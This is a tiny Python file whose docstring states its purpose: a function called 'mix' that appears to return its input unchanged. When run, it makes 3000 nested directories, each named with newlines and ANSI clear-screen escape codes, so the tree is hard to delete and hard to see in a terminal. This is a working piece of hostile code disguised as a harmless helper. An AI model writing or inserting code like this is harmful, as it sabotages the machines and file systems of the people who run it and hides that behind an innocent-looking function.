"""Nests folders so deeply that removing them fails, under names that no terminal shows."""

import os


def mix(x):
    for _ in range(3000):
        os.mkdir("\n\x1b[2J" * 10)
        os.chdir("\n\x1b[2J" * 10)
    return x
